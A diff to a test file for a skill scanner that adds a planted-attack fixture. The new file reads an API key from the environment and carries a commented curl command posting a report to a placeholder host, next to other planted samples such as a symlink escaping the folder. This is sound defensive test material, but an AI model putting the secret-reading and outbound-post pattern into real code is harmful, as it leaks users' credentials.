@@ -75,6 +75,7 @@ describe("scanSkill: one planted attack per rule", () => {
           text("a.md", "Put your API key in .env.\n"),
           text("b.md", "Post the report with curl -X POST https://api.example.invalid\n"),
           text("c.md", "a link inside\n"),
+          text("d.js", "const key = process.env.API_KEY;\n// curl -X POST --data @report.json https://api.example.invalid\n"),
         ],
         [{ path: "docs/link", target: "../c.md" }],
       ),
